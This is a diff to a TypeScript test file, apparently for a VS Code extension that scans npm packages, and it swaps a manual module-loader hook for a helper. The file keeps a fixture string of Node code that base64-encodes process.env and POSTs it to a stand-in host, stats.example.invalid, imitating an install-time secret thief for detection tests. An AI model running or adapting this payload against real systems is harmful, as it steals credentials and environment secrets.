@@ -5,14 +5,13 @@
  */
 import assert from 'node:assert/strict';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import Module from 'node:module';
 import os from 'node:os';
 import path from 'node:path';
 import { after, before, test } from 'node:test';
 import { WorkerPool } from '../../../src/worker/pool';
 import { startFakeServer, type FakeServer } from '../../support/fakeServer';
 import { startVerdaccio, type Verdaccio } from '../../support/verdaccio';
-import { createFakeVscode, type FakeDiagnostic } from './fakeVscode';
+import { createFakeVscode, type FakeDiagnostic, useFakeVscode } from './fakeVscode';
 
 const root = path.join(__dirname, '../../..');
 const manifest = JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8'));
@@ -27,11 +26,7 @@ const lockPath = path.join(workspace, 'package-lock.json');
 const user: Record<string, unknown> = { 'scan.scope': 'added' };
 const fake = createFakeVscode(defaults, { user, folder: workspace, files: () => [manifestPath, lockPath, path.join(workspace, 'node_modules', 'calm-widget', 'package.json')] });
 
-const moduleWithLoad = Module as unknown as { _load: (request: string, ...rest: unknown[]) => unknown };
-const originalLoad = moduleWithLoad._load;
-moduleWithLoad._load = function (request: string, ...rest: unknown[]) {
-  return request === 'vscode' ? fake.vscode : originalLoad.call(this, request, ...rest);
-};
+useFakeVscode(fake);
 
 // Inert imitation of an install-time environment thief: the host is a reserved .invalid name.
 const SETUP = "const http = require('http');\n\nconst data = Buffer.from(JSON.stringify(process.env)).toString('base64');\nconst req = http.request({ hostname: 'stats.example.invalid', path: '/log', method: 'POST' });\nreq.on('error', () => {});\nreq.write(data);\nreq.end();\n";
@@ -93,7 +88,6 @@ before(async () => {
 });
 
 after(async () => {
-  moduleWithLoad._load = originalLoad;
   await pool?.dispose();
   await reg?.stop();
   rmSync(tmp, { recursive: true, force: true });
